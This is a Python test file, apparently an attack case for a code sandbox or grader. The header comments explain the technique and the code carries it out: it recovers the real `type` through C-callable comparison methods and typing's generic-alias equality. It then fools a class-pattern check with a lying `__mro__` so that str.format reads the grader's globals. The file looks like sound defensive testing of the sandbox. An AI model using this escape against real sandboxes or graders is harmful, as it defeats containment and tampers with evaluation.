# attack: the real `type` through a comparison method that is a C callable, with no cache and no hash collision:
#         1. the metaclass wraps each comparison method of main.py's classes so that a class arrives as type(x)
#            shows it, but kept None and C callables as they are ("they hand the other object to no code of
#            main.py's"). A decorator makes the class body's `def __eq__` any value: the bound `__getitem__` of
#            a defaultdict(object) of main.py's (a C method-wrapper that files every object it is compared with
#            as a key and answers with a new, truthy object), a bound list.append, or list.append itself on a
#            list subclass.
#         2. typing's _GenericAlias.__eq__ compares the origins: Type[int] == Annotated[probe, 'm'] runs
#            `type == probe`, and Python hands the real `type` to the probe's __eq__, as it is.
#         3. with the real type: a metaclass whose `__mro__` property lies about a class's bases, so that the
#            stand-in of a class pattern (match_classes._MatchClass) checks `case Read(raw)` against no foreign base
#            and lets the interpreter read Read.__match_args__ ('format') off a str subclass: the raw
#            str.format, whose fields read the grader's globals (here those of guards.py through exit).
# expect: load-error missing-functions
import collections
import typing

seen = collections.defaultdict(object)
kept = []


def made_by(found):
    try:
        return found('Made', (), {'__del__': lambda self: None})  # the stand-in `type` refuses three arguments
    except Exception:
        return None


def probes():
    made = []
    try:
        class Filing:
            @lambda function: seen.__getitem__
            def __eq__(self, other):
                return False

            def __hash__(self):
                return 1
        made.append(Filing())
    except Exception:
        pass
    try:
        class Appending:
            @lambda function: kept.append
            def __eq__(self, other):
                return False

            def __hash__(self):
                return 1
        made.append(Appending())
    except Exception:
        pass
    try:
        class Listing(list):
            @lambda function: list.append
            def __eq__(self, other):
                return False

            def __hash__(self):
                return 1
        made.append(Listing())
    except Exception:
        pass
    return made


RealType = None
for probe in probes():
    try:
        typing.Type[int] == typing.Annotated[probe, 'm']
    except Exception:
        pass
    found_here = list(seen) + kept + (list(probe) if isinstance(probe, list) else [])
    for found in found_here:
        if made_by(found) is not None:
            print('BREACH: the real type from a comparison method that is a C callable:', type(probe).__name__)
            RealType = found
            break


def own_bases(cls):
    return (cls,)


if RealType is not None:
    Meta = RealType('Meta', (RealType,), {'__mro__': property(own_bases)})
    Read = Meta('Read', (str,), {'__match_args__': ('format',)})
    subject = Read('{0.__globals__[__name__]}')
    try:
        match subject:
            case Read(raw):
                print('BREACH: the raw str.format through a class pattern reads', raw(exit))
    except Exception:
        pass
